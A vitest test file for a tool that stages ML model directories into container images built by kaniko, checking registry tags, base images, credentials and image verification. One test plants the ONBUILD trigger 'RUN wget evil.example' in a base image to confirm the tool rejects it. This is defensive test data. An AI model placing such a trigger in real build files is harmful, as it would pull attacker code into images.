import { execFileSync } from "node:child_process";
import {
  appendFileSync,
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { zstdCompressSync, gzipSync } from "node:zlib";
import { findFreePort } from "../../../deploy/local/ports.ts";
import { parseReport, type BuildReport } from "../../../src/api/build-report.ts";
import { IMAGE_LABELS } from "../../../src/api/image-labels.ts";
import { stageSource, type StageSourceOptions } from "../../../src/cli/stage-source.ts";
import { verifyImage } from "../../../src/cli/verify-image.ts";
import { createLogger } from "../../../src/telemetry/logger.ts";
import { OCI_MANIFEST, pushImage, pushManifest, type TestLayer } from "./push.ts";
import { LOGIN, startRegistry, type TestRegistry } from "./registry.ts";

const UID = "11111111-2222-4333-8444-555555555555";

/** How an ended container is seen from outside. */
interface Ended {
  readonly exitCode: number;
  readonly report: BuildReport | undefined;
}

let root: string;
let registry: TestRegistry;
let baseDigest: string;

beforeAll(async () => {
  registry = await startRegistry();
  baseDigest = await pushImage(`http://${registry.host}`, "base", "1", { layers: [] });
});

afterAll(async () => {
  await registry.stop();
});

beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), "modelhook-build-"));
  for (const each of ["volume/runs/1", "staged", "build"]) {
    mkdirSync(join(root, each), { recursive: true });
  }
});

afterEach(() => {
  rmSync(root, { recursive: true });
});

describe("stage-source with a model", () => {
  test("stages what needs another mode, and lets kaniko run", async () => {
    makeModel();
    expect(await stage()).toEqual({ exitCode: 0, report: undefined });
    expect(
      readdirSync(join(root, "staged"), { recursive: true }).map(String).toSorted(byName),
    ).toEqual([".git", "empty", "private.bin", "variables", "variables/data"]);
  });

  test("writes a Dockerfile that says of which state the image is, and keeps kaniko from the model's .dockerignore", async () => {
    makeModel();
    await stage();
    const { fingerprint } = JSON.parse(readFileSync(join(root, "build/source.json"), "utf8")) as {
      fingerprint: string;
    };
    expect(readDockerfile()).toBe(
      [
        `FROM ${registry.host}/base@${baseDigest}`,
        `LABEL model.kubedl.io/source=${fingerprint}`,
        "COPY --chown=0:0 source/ /kubedl-model/",
        "COPY --chown=0:0 staged/ /kubedl-model/",
        "",
      ].join("\n"),
    );
    expect(readFileSync(join(root, "build/Dockerfile.dockerignore"), "utf8")).toBe("");
  });

  test("writes a Dockerfile for an image that holds nothing but the model", async () => {
    makeModel();
    expect(await stage({ baseImage: "scratch" })).toEqual({ exitCode: 0, report: undefined });
    expect(readDockerfile()).toMatch(/^FROM scratch\nLABEL /);
  });

  test("reads only its own directory of the volume", async () => {
    makeModel();
    mkdirSync(join(root, "volume/runs/2"));
    execFileSync("mkfifo", [join(root, "volume/runs/2/pipe")]);
    expect(await stage()).toMatchObject({ exitCode: 0 });
  });
});

describe("stage-source without a model", () => {
  test.each<[string, () => void, object]>([
    [
      "that exists",
      () => rmSync(join(root, "volume/runs/1"), { recursive: true }),
      { reason: "SourceNotFound", message: 'directory "runs/1" does not exist in the volume' },
    ],
    [
      "in it",
      () => undefined,
      {
        reason: "EmptyModel",
        message: 'directory "runs/1" holds no file (0 files, 0 bytes, 0 links, 0 directories)',
      },
    ],
    [
      "but directories and links",
      () => {
        mkdirSync(join(root, "volume/runs/1/variables"));
        symlinkSync("nowhere", join(root, "volume/runs/1/latest"));
      },
      {
        reason: "EmptyModel",
        message: 'directory "runs/1" holds no file (0 files, 0 bytes, 1 links, 1 directories)',
      },
    ],
    [
      "that an image can hold",
      () => void execFileSync("mkfifo", [join(root, "volume/runs/1/pipe")]),
      {
        reason: "UnsupportedFile",
        message: '"pipe" is neither a file, a directory nor a symbolic link',
      },
    ],
  ])("%s does not let kaniko run, and makes nothing", async (_, prepare, failure) => {
    prepare();
    expect(await stage()).toEqual({ exitCode: 1, report: { state: "failed", ...failure } });
    expect(readdirSync(join(root, "build"))).toEqual([]);
    expect(existsSync(join(root, "volume/runs/1"))).toBe(
      (failure as { reason: string }).reason !== "SourceNotFound",
    );
  });
});

describe("stage-source and the registry", () => {
  test("stops at a tag that is somebody else's", async () => {
    makeModel();
    const digest = await push({ labels: { [IMAGE_LABELS.versionUid]: "other" } });
    expect(await stage()).toEqual({
      exitCode: 1,
      report: {
        state: "failed",
        reason: "TagTaken",
        message: `${image()} is ${digest}, which is not an image of this version`,
      },
    });
  });

  test("stops at a tag of an image without our label", async () => {
    makeModel();
    await push({ labels: {} });
    expect(await stage()).toMatchObject({ report: { reason: "TagTaken" } });
  });

  test.each<[string, string | false, boolean]>([
    ["with a shell", "bin/sh", true],
    ["without a shell", "app/server", false],
    ["on nothing", false, false],
  ])("adopts the whole image %s that an earlier attempt pushed", async (_, base, shell) => {
    makeModel();
    await stage();
    const digest = await pushBuilt({ base });
    expect(await stage()).toEqual({
      exitCode: 1,
      report: {
        state: "adopted",
        image: expect.objectContaining({ digest, files: 5, size: 30, shell }) as object,
      },
    });
  });

  test("builds again when the model changed since the earlier attempt", async () => {
    makeModel();
    await stage();
    await pushBuilt();
    appendFileSync(join(root, "volume/runs/1/weights.bin"), "more");
    expect(await stage()).toMatchObject({ exitCode: 0 });
  });

  test("builds again when the earlier attempt's image does not hold all of the model", async () => {
    makeModel();
    await stage();
    await pushBuilt({ without: "weights.bin" });
    expect(await stage()).toMatchObject({ exitCode: 0 });
  });

  test("says that the registry is down", async () => {
    makeModel();
    const host = `127.0.0.1:${await findFreePort()}`;
    expect(
      await stage({ image: `${host}/models/digits:v1`, insecureRegistries: [host] }),
    ).toMatchObject({
      exitCode: 1,
      report: {
        reason: "RegistryUnreachable",
        message: expect.stringContaining("ECONNREFUSED") as string,
      },
    });
  });

  test("does not reach a registry by plain HTTP that is not listed", async () => {
    makeModel();
    expect(await stage({ insecureRegistries: [] })).toMatchObject({
      report: { reason: "RegistryUnreachable" },
    });
  });
});

describe("stage-source and the base image", () => {
  test("has kaniko take the one for this machine, by its digest", async () => {
    makeModel();
    const type = "application/vnd.oci.image.index.v1+json";
    const os = "linux";
    const manifests = [
      { os, architecture: "s390x" },
      { os, architecture: process.arch === "x64" ? "amd64" : process.arch },
    ].map((platform, size) => ({ mediaType: OCI_MANIFEST, digest: baseDigest, size, platform }));
    const index = JSON.stringify({ schemaVersion: 2, mediaType: type, manifests });
    await pushManifest(`http://${registry.host}`, "base", "index", type, index);
    expect(await stage({ baseImage: `${registry.host}/base:index` })).toMatchObject({
      exitCode: 0,
    });
    expect(readDockerfile()).toContain(`FROM ${registry.host}/base@${baseDigest}\n`);
  });

  test.each(["base@DIGEST", "base:1@DIGEST"])("reads %s by its digest", async (name) => {
    makeModel();
    const baseImage = `${registry.host}/${name.replace("DIGEST", baseDigest)}`;
    expect(await stage({ baseImage })).toMatchObject({ exitCode: 0 });
    expect(readDockerfile()).toContain(`FROM ${registry.host}/base@${baseDigest}\n`);
  });

  test("stops at one with triggers, which kaniko would run", async () => {
    makeModel();
    const onBuild = ["RUN wget evil.example", "COPY a b"];
    const triggered = { onBuild, layers: [] };
    const digest = await pushImage(`http://${registry.host}`, "base", "onbuild", triggered);
    expect(await stage({ baseImage: `${registry.host}/base:onbuild` })).toEqual({
      exitCode: 1,
      report: {
        state: "failed",
        reason: "BaseImageTriggers",
        message: `base image ${registry.host}/base:onbuild (${digest}) has triggers (ONBUILD), the first of them "RUN wget evil.example"; a base image must have none`,
      },
    });
    expect(existsSync(join(root, "build/Dockerfile"))).toBe(false);
  });

  test("says that there is none", async () => {
    makeModel();
    expect(await stage({ baseImage: `${registry.host}/base:2` })).toMatchObject({
      report: {
        reason: "ImagePullFailed",
        message: `base image ${registry.host}/base:2 does not exist in its registry`,
      },
    });
  });

  test("says that its registry does not answer", async () => {
    makeModel();
    const host = `127.0.0.1:${await findFreePort()}`;
    expect(await stage({ baseImage: `${host}/base:1` })).toMatchObject({
      report: { reason: "RegistryUnreachable" },
    });
  });

  test("adopts what an earlier attempt pushed without asking for it", async () => {
    makeModel();
    await stage();
    const digest = await pushBuilt();
    expect(await stage({ baseImage: `${registry.host}/base:2` })).toMatchObject({
      report: { state: "adopted", image: { digest } },
    });
  });
});

describe("stage-source and credentials", () => {
  let closed: TestRegistry;

  beforeAll(async () => {
    closed = await startRegistry({ htpasswd: true });
  });

  afterAll(async () => {
    await closed.stop();
  });

  test("goes on when the registry takes them", async () => {
    makeModel();
    writeCredentials(LOGIN.password);
    expect(await stageClosed()).toMatchObject({ exitCode: 0 });
  });

  test("says that the registry refuses them, and not what they are", async () => {
    makeModel();
    writeCredentials("wrong password");
    const { report } = await stageClosed();
    expect(report).toMatchObject({ reason: "PushDenied" });
    expect(JSON.stringify(report)).not.toContain("wrong password");
  });

  test("says that there are none", async () => {
    makeModel();
    expect(await stageClosed()).toMatchObject({
      report: {
        reason: "PushDenied",
        message: `${closed.host} asks for a login; there are no credentials for it`,
      },
    });
  });

  test("says that the base image's registry wants some", async () => {
    makeModel();
    const { report } = await stage({
      baseImage: `${closed.host}/base:1`,
      insecureRegistries: [registry.host, closed.host],
    });
    expect(report).toMatchObject({
      reason: "ImagePullFailed",
      message: `base image ${closed.host}/base:1 can not be pulled: ${closed.host} asks for a login; there are no credentials for it`,
    });
  });

  test("says that the named Secret does not exist", async () => {
    makeModel();
    expect(await stageClosed({ credentialsSecret: "push" })).toMatchObject({
      report: {
        reason: "PushDenied",
        message: "Secret push (builder.pushSecret) does not exist, or has no key .dockerconfigjson",
      },
    });
  });

  function writeCredentials(password: string): void {
    const auth = Buffer.from(`${LOGIN.username}:${password}`).toString("base64");
    writeFileSync(
      join(root, "config.json"),
      JSON.stringify({ auths: { [closed.host]: { auth } } }),
    );
  }

  async function stageClosed(more: Partial<StageSourceOptions> = {}): Promise<Ended> {
    return stage({
      image: `${closed.host}/models/digits:v1`,
      insecureRegistries: [registry.host, closed.host],
      ...more,
    });
  }
});

describe("verify-image", () => {
  beforeEach(async () => {
    makeModel();
    await stage();
  });

  test.each([
    ["gzip", gzipLayer],
    ["zstd", zstdLayer],
    ["no compression", plainLayer],
  ])("reports the image that holds the model, in a layer with %s", async (_, pack) => {
    const digest = await pushBuilt({ pack });
    expect(await verify()).toEqual({
      exitCode: 0,
      report: {
        state: "built",
        image: {
          digest,
          size: 30,
          files: 5,
          layers: [
            {
              digest: expect.stringMatching(/^sha256:/) as string,
              size: expect.any(Number) as number,
            },
            {
              digest: expect.stringMatching(/^sha256:/) as string,
              size: expect.any(Number) as number,
            },
          ],
          shell: true,
        },
      },
    });
  });

  test.each<[string, string | false, boolean]>([
    ["a base with a shell", "bin/sh", true],
    ["a base without a shell", "app/server", false],
    ["nothing", false, false],
  ])("says of an image on %s whether it has a shell", async (_, base, shell) => {
    await pushBuilt({ base });
    expect(await verify()).toMatchObject({ exitCode: 0, report: { image: { files: 5, shell } } });
  });

  test("finds a shell in /usr/bin, to which the base's /bin leads", async () => {
    await pushBuilt({ base: "usr/bin/sh", links: { bin: "usr/bin" } });
    expect(await verify()).toMatchObject({ report: { image: { shell: true } } });
  });

  test("says nothing of a shell in an image whose /bin leads elsewhere", async () => {
    await pushBuilt({ base: "opt/bin/sh", links: { bin: "opt/bin" } });
    const { report } = await verify();
    expect(report).toMatchObject({ state: "built", image: { files: 5 } });
    expect(report).not.toHaveProperty("image.shell");
  });

  test.each<[string, () => Promise<unknown>, object]>([
    [
      "the tag is somebody else's by now",
      () => push({ labels: { [IMAGE_LABELS.versionUid]: "other" } }),
      { reason: "TagTaken", message: expect.stringContaining("of somebody else") },
    ],
    [
      "the tag is another attempt's by now",
      () => push({ labels: { [IMAGE_LABELS.versionUid]: UID, [IMAGE_LABELS.source]: "other" } }),
      { reason: "Unknown", message: expect.stringContaining("of another attempt") },
    ],
    [
      "nothing was pushed",
      () => Promise.resolve(),
      { reason: "Unknown", message: expect.stringContaining("the registry does not have it") },
    ],
    [
      "a file is missing",
      () => pushBuilt({ without: "weights.bin" }),
      {
        reason: "Unknown",
        message: expect.stringContaining(
          "holds 4 files, 18 bytes, 1 links, 3 directories in /kubedl-model where the model has 5 files, 30 bytes, 1 links, 3 directories",
        ),
      },
    ],
    [
      "the base brings files of its own",
      () => pushBuilt({ base: "kubedl-model/stray" }),
      {
        reason: "Unknown",
        message: expect.stringContaining("does the base image bring a /kubedl-model?"),
      },
    ],
    [
      "the model changed meanwhile",
      async () => {
        await pushBuilt();
        writeFileSync(join(root, "volume/runs/1/late"), "");
      },
      { reason: "SourceChanged", message: "the model changed while it was built" },
    ],
    [
      "the model is gone",
      () => Promise.resolve(rmSync(join(root, "volume/runs"), { recursive: true })),
      { reason: "SourceNotFound" },
    ],
  ])("fails when %s", async (_, prepare, failure) => {
    await prepare();
    expect(await verify()).toMatchObject({ exitCode: 1, report: { state: "failed", ...failure } });
  });
});

/** A model with every kind of entry: 5 files of 30 bytes, a link, 3 directories. */
function makeModel(): void {
  const model = join(root, "volume/runs/1");
  for (const each of ["variables", "empty", ".git"]) mkdirSync(join(model, each));
  writeFileSync(join(model, "weights.bin"), "weights data");
  writeFileSync(join(model, "private.bin"), "secret");
  chmodSync(join(model, "private.bin"), 0o600);
  writeFileSync(join(model, ".dockerignore"), "*\n");
  writeFileSync(join(model, "variables/data"), "variable");
  chmodSync(join(model, "variables/data"), 0o640);
  writeFileSync(join(model, "Größe 模型"), "ü");
  symlinkSync("weights.bin", join(model, "latest"));
}

function readDockerfile(): string {
  return readFileSync(join(root, "build/Dockerfile"), "utf8");
}

function image(): string {
  return `${registry.host}/models/${repositoryOf(root)}:v1`;
}

/** Each test has a repository of its own. */
function repositoryOf(directory: string): string {
  return Buffer.from(directory).toString("hex").slice(-24);
}

async function stage(more: Partial<StageSourceOptions> = {}): Promise<Ended> {
  return end(stageSource, more);
}

async function verify(): Promise<Ended> {
  return end(verifyImage, {});
}

async function end(
  command: (options: StageSourceOptions) => Promise<number>,
  more: Partial<StageSourceOptions>,
): Promise<Ended> {
  const terminationLog = join(root, "termination-log");
  rmSync(terminationLog, { force: true });
  rmSync(join(root, "staged"), { recursive: true });
  mkdirSync(join(root, "staged"));
  const exitCode = await command({
    source: join(root, "volume"),
    directory: "runs/1",
    staged: join(root, "staged"),
    build: join(root, "build"),
    image: image(),
    versionUid: UID,
    baseImage: `${registry.host}/base:1`,
    credentials: join(root, "config.json"),
    insecureRegistries: [registry.host],
    terminationLog,
    logger: createLogger({ level: "silent" }),
    ...more,
  });
  const message = existsSync(terminationLog) ? readFileSync(terminationLog, "utf8") : undefined;
  return { exitCode, report: parseReport(message) };
}

async function push({ labels }: { labels: Readonly<Record<string, string>> }): Promise<string> {
  return pushImage(`http://${registry.host}`, `models/${repositoryOf(root)}`, "v1", {
    labels,
    layers: [],
  });
}

/** What kaniko pushes: a layer of the base, and one of the model with what is staged over it. */
async function pushBuilt({
  without,
  base = "bin/sh",
  links = {},
  pack = gzipLayer,
}: {
  readonly without?: string;
  /** The file of the base; false for an image without one. */
  readonly base?: string | false;
  /** Links of the base, with what they lead to. */
  readonly links?: Readonly<Record<string, string>>;
  readonly pack?: (content: Buffer) => TestLayer;
} = {}): Promise<string> {
  const { fingerprint } = JSON.parse(readFileSync(join(root, "build/source.json"), "utf8")) as {
    fingerprint: string;
  };
  const tree = mkdtempSync(join(root, "image-"));
  execFileSync("cp", ["-a", `${join(root, "volume/runs/1")}/.`, join(tree, "kubedl-model")]);
  if (without !== undefined) rmSync(join(tree, "kubedl-model", without));
  const below = mkdtempSync(join(root, "base-"));
  if (base !== false) {
    mkdirSync(join(below, base, ".."), { recursive: true });
    writeFileSync(join(below, base), "");
  }
  for (const [path, target] of Object.entries(links)) symlinkSync(target, join(below, path));
  const layers = (base === false ? [tree] : [below, tree]).map((each) =>
    pack(execFileSync("tar", ["-cf", "-", "-C", each, "."])),
  );
  return pushImage(`http://${registry.host}`, `models/${repositoryOf(root)}`, "v1", {
    labels: { [IMAGE_LABELS.versionUid]: UID, [IMAGE_LABELS.source]: fingerprint },
    layers,
  });
}

function gzipLayer(content: Buffer): TestLayer {
  return { mediaType: "application/vnd.oci.image.layer.v1.tar+gzip", content: gzipSync(content) };
}

function zstdLayer(content: Buffer): TestLayer {
  return {
    mediaType: "application/vnd.oci.image.layer.v1.tar+zstd",
    content: zstdCompressSync(content),
  };
}

function plainLayer(content: Buffer): TestLayer {
  return { mediaType: "application/vnd.oci.image.layer.v1.tar", content };
}

function byName(a: string, b: string): number {
  return a < b ? -1 : 1;
}
